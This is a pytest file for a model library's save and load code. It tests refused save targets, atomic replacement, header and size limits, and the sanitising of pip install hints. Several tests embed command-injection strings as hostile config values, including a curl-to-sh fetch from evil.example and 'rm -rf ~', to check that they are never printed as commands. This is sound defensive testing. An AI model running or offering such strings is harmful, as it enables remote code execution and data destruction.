"""zoo.save and zoo.load against hostile or unlucky input: targets the zoo did not write (the
filesystem root, a mount point, the home folder, a file, a foreign folder), run directories whose
files must survive a save, saves killed midway, readers racing repeated saves, two writers at
once, files changed after loading, oversized or deeply nested headers and configs, NaN/inf and
float8 weights, and install hints built from a hostile config.json."""

from __future__ import annotations

import json
import os
import random
import re
import shutil
import signal
import threading
import time
from pathlib import Path

import pytest
import torch
from safetensors.torch import load_file, save_file

import zoo
import zoo.repo_files as repo_files
import zoo.weights as weights
from zoo.cards import pip_install_command, render_card
from zoo.errors import BusyError, PluginError, ResourceError, WeightsError, ZooError
from zoo.locks import exclusive
from zoo.repo_files import RepoConfig, load_weights, read_safetensors

WIDTH = [2, 3, 1]


def _model(seed: int):
    torch.manual_seed(seed)
    return zoo.create("kan", width=WIDTH, grid=4)


def _state(model) -> dict:
    return {k: v.detach().clone() for k, v in model.state_dict().items()}


def _same(model, state: dict) -> bool:
    now = model.state_dict()
    return now.keys() == state.keys() and all(torch.equal(now[k], v) for k, v in state.items())


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.parent.iterdir() if re.search(r"\.(partial|replaced)-", p.name))


@pytest.fixture
def saved(tmp_path) -> Path:
    return zoo.save(_model(0), tmp_path / "repo")


# --- what a save may replace ---------------------------------------------------------------------------


def test_save_to_the_filesystem_root_is_refused_even_with_overwrite():
    for overwrite in (False, True):
        with pytest.raises(WeightsError, match=r"refusing to save into /: it is the filesystem root"):
            zoo.save(_model(0), "/", overwrite=overwrite)


def test_save_to_a_mount_point_is_refused():
    mount = next((p for p in ("/proc", "/sys", "/dev") if os.path.ismount(p)), None)
    if mount is None:
        pytest.skip("no mount point to try")
    with pytest.raises(WeightsError, match=rf"{mount}: it is a filesystem mount point"):
        zoo.save(_model(0), mount, overwrite=True)


def test_save_to_the_home_folder_is_refused(tmp_path, monkeypatch):
    home = tmp_path / "home"
    (home / "notes").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    with pytest.raises(WeightsError, match="your home directory"):
        zoo.save(_model(0), "~", overwrite=True)
    assert sorted(p.name for p in home.iterdir()) == ["notes"]


def test_save_onto_an_existing_file_is_refused_then_replaced_with_overwrite(tmp_path):
    target = tmp_path / "model"
    target.write_text("keep me")
    with pytest.raises(WeightsError, match=rf"{re.escape(str(target))}: it is an existing file.*overwrite=True"):
        zoo.save(_model(0), target)
    assert target.read_text() == "keep me"
    zoo.save(_model(1), target, overwrite=True)
    assert _same(zoo.load(target, verify=True), _state(_model(1)))
    assert _leftovers(target) == []


def test_save_into_a_foreign_folder_is_refused_then_kept_beside_the_repo_with_overwrite(tmp_path):
    target = tmp_path / "project"
    (target / "src").mkdir(parents=True)
    (target / "src" / "main.py").write_text("print('hi')\n")
    (target / "README.md").write_text("my project\n")
    with pytest.raises(WeightsError, match=rf"{re.escape(str(target))}: it is a folder the zoo did not write"):
        zoo.save(_model(0), target)
    assert sorted(p.name for p in target.iterdir()) == ["README.md", "src"]
    zoo.save(_model(0), target, overwrite=True)
    assert (target / "src" / "main.py").read_text() == "print('hi')\n"  # carried over
    assert _same(zoo.load(target), _state(_model(0)))


def test_empty_folders_and_zoo_repos_are_saved_into_without_overwrite(tmp_path, saved):
    (tmp_path / "empty").mkdir()
    zoo.save(_model(0), tmp_path / "empty")
    zoo.save(_model(1), saved)
    assert _same(zoo.load(saved), _state(_model(1)))


def test_a_run_directory_keeps_its_checkpoints_and_other_files(tmp_path):
    run = tmp_path / "run"
    (run / "checkpoints" / "epoch-1").mkdir(parents=True)
    (run / "checkpoints" / "epoch-1" / "state.json").write_text('{"epoch": 1}')
    save_file({"w": torch.ones(3)}, run / "checkpoints" / "epoch-1" / "model.safetensors")
    (run / "metrics.json").write_text(json.dumps({"task": "t", "history": [{"epoch": 1, "train_loss": 0.5}],
                                                  "final": {"test_rmse": 0.25}, "epochs": 1}))
    (run / "notes.txt").write_text("lr sweep 3")
    (run / "latest").symlink_to("checkpoints/epoch-1")
    before = {p.relative_to(run): p.read_bytes() for p in run.rglob("*") if p.is_file() and not p.is_symlink()}
    zoo.save(_model(0), run, run=run)
    with exclusive(run, "run directory"):  # zoo.train holds this lock while it saves: the save re-enters
        zoo.save(_model(1), run, run=run)
    after = {p.relative_to(run): p.read_bytes() for p in run.rglob("*") if p.is_file() and not p.is_symlink()}
    metrics = Path("metrics.json")  # rewritten by the save, from the run's own: same content
    assert json.loads(after.pop(metrics)) == json.loads(before.pop(metrics))
    assert all(after[name] == data for name, data in before.items())
    assert os.readlink(run / "latest") == "checkpoints/epoch-1"
    assert _same(zoo.load(run, verify=True), _state(_model(1)))
    assert "test_rmse" in (run / "README.md").read_text()
    assert _leftovers(run) == []


def test_saving_into_the_working_directory_keeps_it_usable(tmp_path, saved, monkeypatch):
    (saved / "logs").mkdir()
    monkeypatch.chdir(saved / "logs")
    zoo.save(_model(1), saved)
    assert Path(os.getcwd()) == saved / "logs" and Path(".").resolve() == saved / "logs"
    assert _same(zoo.load(".."), _state(_model(1)))


def test_a_metrics_json_alone_marks_a_run_directory(tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    (run / "metrics.json").write_text(json.dumps({"history": [], "final": {}}))
    (run / "train.log").write_text("epoch 1")
    zoo.save(_model(0), run)
    assert (run / "train.log").read_text() == "epoch 1"


def test_saving_through_a_symlink_replaces_the_folder_it_points_to(tmp_path, saved):
    link = tmp_path / "link"
    link.symlink_to(saved)
    zoo.save(_model(2), link)
    assert link.is_symlink() and _same(zoo.load(saved), _state(_model(2)))


def test_a_bad_directory_argument_is_a_weights_error(tmp_path):
    with pytest.raises(WeightsError, match="must be a path"):
        zoo.save(_model(0), 42)
    with pytest.raises(WeightsError, match="NUL"):
        zoo.save(_model(0), str(tmp_path / "a\0b"))
    with pytest.raises(WeightsError, match="must be a path"):
        zoo.load(None)


def test_bad_run_and_card_arguments_are_weights_errors(tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    os.mkfifo(run / "metrics.json")  # reading it would block forever
    with pytest.raises(WeightsError, match="metrics.json is not a regular file"):
        zoo.save(_model(0), tmp_path / "a", run=run)
    (run / "metrics.json").unlink()
    (run / "metrics.json").write_text(json.dumps({"final": [1, 2]}))
    with pytest.raises(WeightsError, match="'final' metrics must be an object"):
        zoo.save(_model(0), tmp_path / "a", run=run)
    for kwargs, message in (({"run": 3}, "run must be a run directory"), ({"metrics": [1]}, "metrics must be a dict"),
                            ({"license": 5}, "license must be a string")):
        with pytest.raises(WeightsError, match=message):
            zoo.save(_model(0), tmp_path / "a", **kwargs)
    assert not (tmp_path / "a").exists()


# --- atomic replacement -------------------------------------------------------------------------------


def _fork_saving_forever(target: Path, models: list) -> int:
    pid = os.fork()
    if pid == 0:  # the child saves until it is killed
        try:
            for i in range(10_000):
                zoo.save(models[i % 2], target)
        finally:
            os._exit(0)
    return pid


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs os.fork")
def test_a_save_killed_at_random_points_leaves_a_complete_repo_and_the_next_save_cleans_up(tmp_path):
    models = [_model(10), _model(11)]
    states = [_state(m) for m in models]
    target = zoo.save(models[0], tmp_path / "repo")
    rng = random.Random(0)
    seen_leftovers = 0
    for _ in range(8):
        pid = _fork_saving_forever(target, models)
        time.sleep(rng.uniform(0.05, 0.4))
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        loaded = zoo.load(target, verify=True)  # the old or the new repo, complete
        assert _same(loaded, states[0]) or _same(loaded, states[1])
        seen_leftovers += bool(_leftovers(target))
        zoo.save(models[0], target)
        assert _leftovers(target) == []
    assert seen_leftovers  # some kills did land inside a save


def test_a_leftover_staging_folder_is_removed_by_the_next_save(tmp_path, saved):
    stale = tmp_path / ".repo.partial-0123abcd"
    (stale / "sub").mkdir(parents=True)
    (stale / "model.safetensors").write_bytes(b"\0" * 1000)
    other = tmp_path / ".repo-2.partial-0123abcd"  # another target's: not touched
    other.mkdir()
    zoo.save(_model(1), saved)
    assert not stale.exists() and other.exists()


def test_a_fallback_swap_killed_between_its_renames_is_undone_by_the_next_save(tmp_path, saved, monkeypatch):
    aside = tmp_path / ".repo.replaced-0123abcd"
    saved.rename(aside)  # the state a kill between the fallback's two renames leaves
    monkeypatch.setattr("zoo.cards.render_card", lambda *a, **k: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        zoo.save(_model(1), saved)
    assert _same(zoo.load(saved), _state(_model(0)))  # the previous repo is back
    assert _leftovers(saved) == []


def test_the_fallback_without_rename_exchange_replaces_the_folder(tmp_path, saved, monkeypatch):
    monkeypatch.setattr(weights, "_exchange", lambda a, b: False)
    (saved / "notes.txt").write_text("kept")
    zoo.save(_model(3), saved)
    assert _same(zoo.load(saved, verify=True), _state(_model(3)))
    assert (saved / "notes.txt").read_text() == "kept" and _leftovers(saved) == []


def test_an_interrupted_save_leaves_the_previous_folder_untouched(tmp_path, saved, monkeypatch):
    before = {p.name: (p.stat().st_ino, p.read_bytes()) for p in saved.iterdir()}

    def crash(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(weights, "_swap_in", crash)
    with pytest.raises(WeightsError, match=rf"cannot save to {re.escape(str(saved))}: No space left"):
        zoo.save(_model(1), saved)
    assert {p.name: (p.stat().st_ino, p.read_bytes()) for p in saved.iterdir()} == before
    assert _leftovers(saved) == []


@pytest.mark.skipif(weights._renameat2() is None, reason="needs Linux renameat2")
def test_readers_racing_repeated_saves_never_see_a_mix(tmp_path):
    models = [_model(20), _model(21)]
    states = [_state(m) for m in models]
    target = zoo.save(models[0], tmp_path / "repo")
    stop, problems, loads = threading.Event(), [], []

    def read():
        while not stop.is_set():
            try:
                loaded = zoo.load(target, verify=True)  # IntegrityError if the weights do not match config.json
            except Exception as exc:  # noqa: BLE001 - any failure is what this test looks for
                problems.append(repr(exc))
                continue
            if not (_same(loaded, states[0]) or _same(loaded, states[1])):
                problems.append("weights of neither save")
            loads.append(1)

    reader = threading.Thread(target=read)
    reader.start()
    try:
        deadline, saves = time.monotonic() + 2.5, 0
        while time.monotonic() < deadline:
            zoo.save(models[saves % 2], target)
            saves += 1
    finally:
        stop.set()
        reader.join(30)
    assert problems == []
    assert saves > 10 and len(loads) > 10


def test_a_second_concurrent_writer_gets_busy_error(tmp_path, saved, monkeypatch):
    entered, release = threading.Event(), threading.Event()
    real_render = zoo.cards.render_card

    def slow_render(*args, **kwargs):
        entered.set()
        release.wait(30)
        return real_render(*args, **kwargs)

    monkeypatch.setattr("zoo.cards.render_card", slow_render)
    first = threading.Thread(target=zoo.save, args=(_model(1), saved))
    first.start()
    try:
        assert entered.wait(30)
        with pytest.raises(BusyError, match=rf"repo {re.escape(str(saved))} is being written by process {os.getpid()}"):
            zoo.save(_model(2), saved)
    finally:
        release.set()
        first.join(30)
    assert _same(zoo.load(saved), _state(_model(1)))


# --- loaded models own their memory --------------------------------------------------------------------


def test_changing_the_file_after_load_does_not_reach_the_model(tmp_path, saved):
    model = zoo.load(saved)
    state = _state(model)
    with torch.no_grad():
        before = model(torch.linspace(-1, 1, 16).reshape(8, 2))
    other = zoo.save(_model(5), tmp_path / "other")
    shutil.copyfile(other / "model.safetensors", saved / "model.safetensors")  # rewrites the same inode
    assert _same(model, state)
    os.truncate(saved / "model.safetensors", 0)
    with torch.no_grad():
        assert torch.equal(model(torch.linspace(-1, 1, 16).reshape(8, 2)), before)


def test_the_reader_matches_safetensors_for_every_accepted_dtype(tmp_path):
    torch.manual_seed(0)
    tensors = {name: (torch.randn(3, 5) * 100).to(getattr(torch, kind)) for name, kind in repo_files.DTYPES.items()
               if kind not in ("bool", "uint8")}
    tensors.update(U8=torch.arange(7, dtype=torch.uint8), BOOL=torch.tensor([True, False, True]),
                   scalar=torch.tensor(2.5), empty=torch.zeros(0, 4))
    save_file(tensors, tmp_path / "all.safetensors")
    ours, theirs = read_safetensors(tmp_path / "all.safetensors"), load_file(tmp_path / "all.safetensors")
    assert ours.keys() == theirs.keys()
    for name, tensor in theirs.items():
        assert ours[name].dtype == tensor.dtype and torch.equal(ours[name], tensor), name
    ours["F32"].add_(1)  # writable, and the file is not
    assert torch.equal(load_file(tmp_path / "all.safetensors")["F32"], theirs["F32"])


def _write_raw(path: Path, header: dict, data: bytes) -> Path:
    text = json.dumps(header).encode()
    path.write_bytes(len(text).to_bytes(8, "little") + text + data)
    return path


def test_a_misaligned_tensor_is_copied_into_aligned_memory(tmp_path):
    values = torch.tensor([1.5, -2.0, 3.25])
    header = {"flag": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]},
              "x": {"dtype": "F32", "shape": [3], "data_offsets": [1, 13]}}
    tensors = read_safetensors(_write_raw(tmp_path / "odd.safetensors", header, b"\x07" + values.numpy().tobytes()))
    assert torch.equal(tensors["x"], values) and tensors["flag"].tolist() == [7]


@pytest.mark.parametrize("header, data, message", [
    ({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
      "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, bytes(12), "overlap or leave a gap"),
    ({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(12), "file holds 12"),
    ({"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}}, bytes(8), "needs 12 bytes"),
    ({"a": {"dtype": "BOOL", "shape": [2], "data_offsets": [0, 2]}}, b"\x01\x02", "bytes other than 0 and 1"),
    ({"a": {"dtype": "F32", "shape": [-1], "data_offsets": [0, 0]}}, b"", "shape \\[-1\\]"),
    ({"a": [1, 2]}, b"", "must have exactly dtype, shape and data_offsets"),
    ({"__metadata__": {"x": 1}}, b"", "__metadata__"),
])
def test_inconsistent_headers_are_refused(tmp_path, header, data, message):
    path = _write_raw(tmp_path / "bad.safetensors", header, data)
    with pytest.raises(WeightsError, match=rf"{re.escape(str(path))} is not a valid safetensors file.*{message}"):
        read_safetensors(path)


# --- limits -------------------------------------------------------------------------------------------------


def test_a_huge_safetensors_header_is_refused_fast(saved):
    path = saved / "model.safetensors"
    size = 74_000_000  # the review's header: 1.25 M empty tensors
    with open(path, "wb") as f:
        f.write(size.to_bytes(8, "little"))
        f.truncate(8 + size)  # sparse: nothing to write
    start = time.perf_counter()
    with pytest.raises(ResourceError, match=r"header is 74,000,000 bytes, over the limit of 16,777,216 bytes"):
        zoo.load(saved)
    assert time.perf_counter() - start < 1.0


def test_too_many_tensors_are_refused_fast(tmp_path):
    header = {f"t{i}": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for i in range(repo_files.MAX_TENSORS + 1)}
    path = _write_raw(tmp_path / "many.safetensors", header, b"")
    start = time.perf_counter()
    with pytest.raises(ResourceError, match=r"has 100,001 tensor entries, over the limit of 100,000"):
        read_safetensors(path)
    assert time.perf_counter() - start < 1.0


@pytest.mark.parametrize("depth", [100, 100_000])
def test_deeply_nested_config_json_is_refused(saved, depth):
    data = json.loads((saved / "config.json").read_text())
    text = json.dumps({**data, "config": "NEST"}).replace('"NEST"', "[" * depth + "]" * depth)
    (saved / "config.json").write_text(text)
    with pytest.raises(WeightsError, match=r"config.json is not valid JSON for PaperZoo: nested deeper than 64"):
        zoo.load(saved)


@pytest.mark.parametrize("text", ["0", "null", '"paperzoo"', "[]", "1e999", "9" * 5000])
def test_a_config_json_that_is_not_an_object_is_refused(saved, text):
    (saved / "config.json").write_text(text)
    with pytest.raises(WeightsError, match=r"config.json (was not written by PaperZoo|is not valid JSON)"):
        zoo.load(saved)


def test_an_oversized_config_json_is_refused_unread(saved):
    data = json.loads((saved / "config.json").read_text())
    (saved / "config.json").write_text(json.dumps({**data, "padding": "x" * (1 << 20)}))
    with pytest.raises(ResourceError, match=r"config.json is over the 1,048,576-byte limit"):
        zoo.load(saved)


def test_a_file_cannot_make_a_load_allocate_more_than_the_model_holds(saved):
    """An extra 8 GB tensor (a sparse file: nothing on disk) is refused, or skipped unread, from
    the header alone: its bytes are never allocated."""
    path = saved / "model.safetensors"
    raw = path.read_bytes()
    size = int.from_bytes(raw[:8], "little")
    header, data = json.loads(raw[8:8 + size]), raw[8 + size:]
    header["huge"] = {"dtype": "F32", "shape": [2_000_000_000], "data_offsets": [len(data), len(data) + 8 * 10**9]}
    text = json.dumps(header).encode()
    with open(path, "wb") as f:
        f.write(len(text).to_bytes(8, "little") + text + data)
        f.truncate(8 + len(text) + len(data) + 8 * 10**9)
    start = time.perf_counter()
    with pytest.raises(WeightsError, match="1 unexpected: huge"):
        zoo.load(saved)
    assert _same(zoo.load(saved, strict=False), _state(_model(0)))
    with pytest.raises(WeightsError, match="1 unexpected: huge"):
        load_weights(_model(0), path)
    assert time.perf_counter() - start < 5


def test_a_deep_safetensors_header_is_refused(tmp_path):
    text = b"[" * 100_000 + b"]" * 100_000
    path = tmp_path / "deep.safetensors"
    path.write_bytes(len(text).to_bytes(8, "little") + text)
    with pytest.raises(WeightsError, match="not a valid safetensors file.*nested"):
        read_safetensors(path)


# --- NaN/inf and exotic dtypes -----------------------------------------------------------------------------


def _with_nonfinite(seed: int):
    model = _model(seed)
    name, tensor = next((k, v) for k, v in model.state_dict().items() if v.is_floating_point() and v.numel() > 2)
    with torch.no_grad():
        tensor.view(-1)[0] = float("nan")
        tensor.view(-1)[1] = float("inf")
    return model, name, tensor.numel()


def test_nonfinite_weights_are_refused_by_save_unless_allowed(tmp_path):
    model, name, _ = _with_nonfinite(0)
    with pytest.raises(WeightsError, match=rf"NaN/inf weights: {re.escape(repr(name))} \(2 of .*allow_nonfinite=True"):
        zoo.save(model, tmp_path / "repo")
    assert not (tmp_path / "repo").exists()
    zoo.save(model, tmp_path / "repo", allow_nonfinite=True)


def test_nonfinite_weights_load_with_a_warning_naming_them(tmp_path):
    model, name, numel = _with_nonfinite(0)
    repo = zoo.save(model, tmp_path / "repo", allow_nonfinite=True)
    with pytest.warns(RuntimeWarning, match=rf"NaN/inf weights: {re.escape(repr(name))} \(2 of {numel}\)"):
        loaded = zoo.load(repo)
    assert torch.isnan(loaded.state_dict()[name]).sum() == 1
    with pytest.warns(RuntimeWarning, match=re.escape(repr(name))):
        load_weights(_model(0), repo / "model.safetensors")


def test_float8_weights_are_refused_naming_tensor_and_dtype(saved):
    tensors = load_file(saved / "model.safetensors")
    key = next(iter(tensors))
    tensors[key] = tensors[key].to(torch.float8_e4m3fn)
    save_file(tensors, saved / "model.safetensors")
    with pytest.raises(WeightsError, match=rf"tensor {re.escape(repr(key))} has dtype 'F8_E4M3'.*float8"):
        zoo.load(saved)
    with pytest.raises(WeightsError, match="F8_E4M3"):
        load_weights(_model(0), saved / "model.safetensors")


# --- install hints ---------------------------------------------------------------------------------------------


def _needs_missing_plugin(saved: Path, distribution, version) -> str:
    data = json.loads((saved / "config.json").read_text())
    data.update(architecture="hypernet", plugin="hypernet", distribution=distribution, distribution_version=version)
    (saved / "config.json").write_text(json.dumps(data))
    with pytest.raises(PluginError) as info:
        zoo.load(saved)
    return str(info.value)


def test_a_hostile_distribution_is_never_printed_as_a_command(saved):
    hostile = "paperzoo-x; curl http://evil.example/x.sh | sh #"
    message = _needs_missing_plugin(saved, hostile, "1")
    assert "pip install" not in message
    assert "'distribution' field 'paperzoo-x; curl" in message and "not a valid package name" in message


def test_a_hostile_version_is_left_out_of_the_command(saved):
    message = _needs_missing_plugin(saved, "paperzoo-x", "1; rm -rf ~")
    assert "Install it: pip install paperzoo-x (" in message and ">=" not in message
    assert "'distribution_version' field '1; rm -rf ~' is not a valid version" in message


def test_pip_install_command_accepts_only_valid_names_and_versions():
    assert pip_install_command("paperzoo-hypernet", "2.1.0") == "pip install paperzoo-hypernet>=2.1.0"
    assert pip_install_command("Zoo_Plugins.x", "1.0rc1") == "pip install Zoo_Plugins.x>=1.0rc1"
    assert pip_install_command("paperzoo", "not a version") == "pip install paperzoo"
    for name in ("x; rm -rf /", "-e .", "a b", "pkg$(id)", "", "x\n", None, 3, "x" * 300):
        assert pip_install_command(name, "1.0") is None, name


def test_the_model_card_shows_no_command_for_a_hostile_distribution(saved):
    repo = RepoConfig(architecture="kan", config={"width": WIDTH}, plugin="kan",
                      distribution="x; curl http://evil.example | sh", distribution_version="1",
                      zoo_version="0.1.0")
    card = render_card(repo, zoo.info("kan"), parameters=10)
    assert "pip install" not in card and "evil.example" not in card


def test_errors_are_zoo_errors_with_short_messages(saved):
    data = json.loads((saved / "config.json").read_text())
    (saved / "config.json").write_text(json.dumps({**data, "architecture": "a" * 100_000}))
    with pytest.raises(ZooError) as info:
        zoo.load(saved)
    assert len(str(info.value)) < 2000


def test_a_config_json_asking_for_a_huge_model_is_refused_before_allocating(tmp_path):
    folder = zoo.save(zoo.create("kan", width=[2, 3, 1]), tmp_path / "repo")
    config = json.loads((folder / "config.json").read_text())
    config["config"]["width"] = [2, 100000, 100000, 1]  # ~110 billion elements (440 GB)
    (folder / "config.json").write_text(json.dumps(config))
    with pytest.raises(ResourceError, match=r"110,005,700,024 .* over the limit of 500,000,000"):
        zoo.load(folder)


def test_load_takes_the_size_limit_of_create(tmp_path):
    folder = zoo.save(zoo.create("kan", width=[2, 30, 1]), tmp_path / "repo")
    with pytest.raises(ResourceError, match=r"1,374 .* over the limit of 100\b"):
        zoo.load(folder, max_params=100)
    assert sum(p.numel() for p in zoo.load(folder, max_params=10_000).parameters()) > 0
